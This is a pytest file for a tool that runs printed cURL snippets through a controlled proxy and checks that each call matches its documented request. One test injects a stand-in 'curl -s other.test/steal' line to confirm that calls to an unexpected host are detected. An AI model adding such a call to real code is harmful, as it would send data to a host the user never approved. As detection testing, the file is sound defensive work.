"""What leads a program from outside; the runtimes themselves are led in tests/runtime."""

from __future__ import annotations

import os
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import pytest

from callsheet import languages
from callsheet.verify.authority import Authority
from callsheet.verify.dummies import dummies
from callsheet.verify.lead import Target, lead
from callsheet.verify.process import Limits
from callsheet.verify.verdicts import Trial, attempt, judge

from .support import request_of, snippet_of

PLAIN = """
auth: header
body: {json: {a: 1.10}}
response: {json: {ok: true}}
"""
LIMITS = Limits(seconds=20)


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return Authority(tmp_path_factory.mktemp("authority"))


def tools() -> list[str]:
    return [language.runtime.command for language in languages.every()]


@pytest.mark.parametrize("tool", [*tools(), "another"])
def test_every_runtime_is_told_the_port_and_whom_to_trust(tool: str, authority: Authority) -> None:
    led = lead(tool, Target(4321, authority))
    words = [*led.environment.values(), *led.arguments]
    assert any(word.endswith("4321") for word in words)
    assert any(str(authority.pem.parent) in word for word in words)
    assert not any("JAVA_TOOL_OPTIONS" in name for name in led.environment)


@pytest.mark.parametrize("tool", tools())
def test_the_files_that_a_runtime_loads_are_part_of_the_package(
    tool: str, authority: Authority
) -> None:
    named = [Path(word) for word in lead(tool, Target(1, authority)).arguments if "hooks" in word]
    assert all(file.is_file() and file.parent.parent.name == "verify" for file in named)
    assert len(named) == (1 if tool in {"node", "ruby"} else 0)


def tried(
    folder: Path, server: str, edits: dict[str, str] | None = None, example: str = PLAIN
) -> tuple[Trial, list[str], str]:
    """A trial of an edited cURL snippet, what is found of it, and the text that was printed."""
    snippet = snippet_of(request_of(folder, example, server=server))
    for old, new in (edits or {}).items():
        assert old in snippet.text
        snippet = replace(snippet, text=snippet.text.replace(old, new, 1))
    variables = dummies(snippet.request.env)
    trial = attempt(snippet, variables, limits=LIMITS)
    found = [difference.what for difference in judge(snippet, trial, variables)]
    return trial, found, snippet.text


@pytest.mark.parametrize("server", ["https://api.test", "https://API.test:8443/base"])
def test_a_https_snippet_runs_as_it_is_printed(tmp_path: Path, server: str) -> None:
    trial, found, text = tried(tmp_path, server)
    assert found == []
    assert trial.text == text


@pytest.mark.parametrize(
    "server", ["http://api.test/base", "__API__", "https://my_api.test", "https://[::1]:8443"]
)
def test_what_cannot_be_led_runs_with_another_origin(tmp_path: Path, server: str) -> None:
    trial, found, text = tried(tmp_path, server)
    assert found == []
    assert trial.text != text


@pytest.mark.parametrize("server", ["https://api.test", "http://api.test", "__API__"])
@pytest.mark.parametrize("other", ["https://other.test", "http://other.test"])
def test_a_call_to_another_host_beside_its_own_is_caught(
    tmp_path: Path, server: str, other: str
) -> None:
    trial, found, _ = tried(tmp_path, server, {"curl ": f"curl -s {other}/steal || true\ncurl "})
    assert found == ["connection"]
    assert len(trial.calls) == 1
    assert [fault.partition(": ")[0] for fault in trial.faults] == ["request to another host"]


def test_the_right_host_without_tls_is_another(tmp_path: Path) -> None:
    trial, found, _ = tried(tmp_path, "https://api.test", {"https://": "http://"})
    assert trial.faults == ("request to another host: http://api.test",)
    assert "number of calls" in found


def test_a_declared_host_line_is_no_other_host(tmp_path: Path) -> None:
    example = f"headers: {{host: tenant.test}}{PLAIN}"
    trial, found, _ = tried(tmp_path, "https://api.test", example=example)
    assert (found, trial.faults) == ([], ())


def test_the_proxy_is_not_seen_in_what_is_shown_of_a_response(tmp_path: Path) -> None:
    trial, found, _ = tried(tmp_path, "https://api.test", {"curl ": "curl --include "})
    assert found == ["stdout"]
    assert trial.run.stdout.startswith(b"HTTP/1.1 200 OK\r\n")


def test_the_users_own_proxy_and_trust_stay_outside(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("HTTPS_PROXY", "https_proxy", "NO_PROXY", "no_proxy", "CURL_CA_BUNDLE"):
        monkeypatch.setenv(name, "*" if "no" in name.lower() else "http://127.0.0.1:9")
    assert tried(tmp_path, "https://api.test")[1] == []
    assert os.environ["NO_PROXY"] == "*"


def test_each_call_belongs_to_its_snippet_when_many_run_at_once(
    tmp_path: Path, authority: Authority
) -> None:
    snippet = snippet_of(request_of(tmp_path, PLAIN, server="https://api.test"))
    keys = [dummies(snippet.request.env) for _ in range(12)]

    def tries(key: dict[str, str]) -> Trial:
        return attempt(snippet, key, limits=LIMITS, authority=authority)

    with ThreadPoolExecutor(6) as pool:
        trials = list(pool.map(tries, keys))
    for key, trial in zip(keys, trials, strict=True):
        assert judge(snippet, trial, key) == []
        assert trial.calls[0].values("x-api-key") == list(key.values())
